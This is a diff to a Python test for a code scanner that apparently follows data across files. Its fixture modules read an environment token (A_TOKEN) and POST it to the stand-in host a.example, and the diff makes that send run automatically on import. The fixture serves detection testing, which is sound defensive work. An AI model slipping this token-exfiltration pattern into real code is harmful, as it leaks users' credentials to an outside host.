@@ -286,9 +286,9 @@ def test_data_is_followed_between_functions_and_files():
     facts = scan(
         {
             "acme/__init__.py": "",
-            "acme/a.py": "import os\nimport requests\n\ndef read():\n    return os.environ['A_TOKEN']\n",
+            "acme/a.py": "import os\nimport subprocess\n\ndef read():\n    return os.environ['A_TOKEN']\n",
             "acme/b.py": "import requests\n\ndef send(x):\n    requests.post('https://a.example', data=x)\n",
-            "acme/c.py": "import requests\nfrom acme.a import read\nfrom acme.b import send\n\ndef go():\n    send(read())\n",
+            "acme/c.py": "import requests\nfrom acme.a import read\nfrom acme.b import send\n\ndef go():\n    send(read())\n\ngo()\n",
         }
     )
     (net,) = [each for each in facts.capabilities if each.kind == v.NET]
